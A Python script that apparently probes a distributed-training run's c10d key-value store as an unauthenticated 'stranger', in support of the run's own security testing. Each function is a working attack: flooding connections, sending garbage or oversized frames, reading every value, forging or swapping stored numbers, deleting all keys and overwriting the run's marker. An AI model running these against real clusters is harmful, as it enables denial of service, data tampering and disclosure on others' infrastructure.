#!/usr/bin/env python3
"""A stranger at the store of a run: speaks c10d's protocol by hand, without the run's secret. Prints what he got.

stranger.py ATTACK HOST PORT [SOURCE]
"""
import os
import socket
import struct
import sys
import time

VALIDATE, SET, GET, ADD, COUNT, DELETE, LIST = 0, 1, 3, 4, 7, 8, 17


def string(value):
    data = value if isinstance(value, bytes) else value.encode()
    return struct.pack("<Q", len(data)) + data


class Store:
    def __init__(self, host, port, source=None, validates=True):
        self.socket = socket.create_connection((host, port), timeout=3, source_address=(source, 0) if source else None)
        if validates:
            self.send(bytes([VALIDATE]) + struct.pack("<I", 0x3C85F7CE))

    def send(self, data):
        self.socket.sendall(data)

    def receive(self, count):
        data = b""
        while len(data) < count:
            part = self.socket.recv(count - len(data))
            if not part:
                raise ConnectionError("the store closed the connection")
            data += part
        return data

    def number(self):
        return struct.unpack("<q", self.receive(8))[0]

    def bytes(self):
        return self.receive(struct.unpack("<Q", self.receive(8))[0])

    def set(self, key, value):
        self.send(bytes([SET]) + string(key) + string(value))

    def get(self, key):
        self.send(bytes([GET]) + string(key))
        return self.bytes()

    def keys(self):
        self.send(bytes([LIST]))
        return [self.bytes() for _ in range(self.number())]

    def delete(self, key):
        self.send(bytes([DELETE]) + string(key))
        return self.number()


def values(store):
    return {key: store.get(key) for key in store.keys()}


def is_number(value):
    return value[32:33].isdigit() and len(value) < 120


def connect(place):
    Store(*place)
    return "connected"


def http(place):
    store = Store(*place, validates=False)
    store.send(b"GET / HTTP/1.1\r\nHost: store\r\n\r\n")
    return f"{len(store.socket.recv(100))} bytes back"


def garbage(place):
    store = Store(*place)
    try:
        for _ in range(64):
            store.send(os.urandom(1 << 14))
        store.receive(1)
    except (ConnectionError, TimeoutError) as error:
        return f"{type(error).__name__}"
    return "an answer"


def giant(place):
    store = Store(*place)
    store.send(bytes([SET]) + struct.pack("<Q", 1 << 62) + b"x" * 1000)
    try:
        store.receive(1)
    except (ConnectionError, TimeoutError) as error:
        return f"{type(error).__name__}"
    return "an answer"


def flood(place):
    held = [Store(*place) for _ in range(300)]
    time.sleep(1)
    return f"{len(held)} connections held for 1 s"


def count(place):
    """After a flood: a store that looks up a name for each newcomer would keep this one waiting."""
    start = time.monotonic()
    store = Store(*place)
    store.send(bytes([COUNT]))
    return f"{store.number()} keys, answered in {time.monotonic() - start:.2f} s"


def guess(place):
    store = Store(*place)
    for key in ("loss", "arrivals", "dead/1", "beat/1", "lease/next", "entries/0"):
        store.set(f"/mal/0/{key}", b"9999999")
    return "6 keys with names that mal uses inside"


def read(place):
    found = values(Store(*place))
    plain = sum(b"/mal/" in key for key in found)
    return f"{len(found)} values, {plain} under names that can be read"


def add(place):
    store = Store(*place)
    key = next(key for key, value in values(store).items() if is_number(value))
    store.send(bytes([ADD]) + string(key) + struct.pack("<q", 1 << 40))
    try:
        return f"the answer {store.number()}"
    except (ConnectionError, TimeoutError) as error:
        return type(error).__name__


def forge(place):
    store = Store(*place)
    for key, value in values(store).items():
        store.set(key, bytes(32) + value[32:])
    return "every value written over"


def swap(place):
    store = Store(*place)
    found = values(store)
    keys = [key for key in found if is_number(found[key])]
    for key, other in zip(keys, keys[1:] + keys[:1]):
        store.set(key, found[other])
    return "every number written over by another's"


def delete(place):
    store = Store(*place)
    keys = store.keys()
    return f"{sum(store.delete(key) for key in keys)} of {len(keys)} keys deleted"


def sign(place):
    Store(*place).set("/mal", b"mine")
    return "the run's sign written over"


if __name__ == "__main__":
    attack, host, port, *source = sys.argv[1:]
    try:
        print(globals()[attack]((host, int(port), *source)))
    except OSError as error:
        print(f"{type(error).__name__}: {error}")
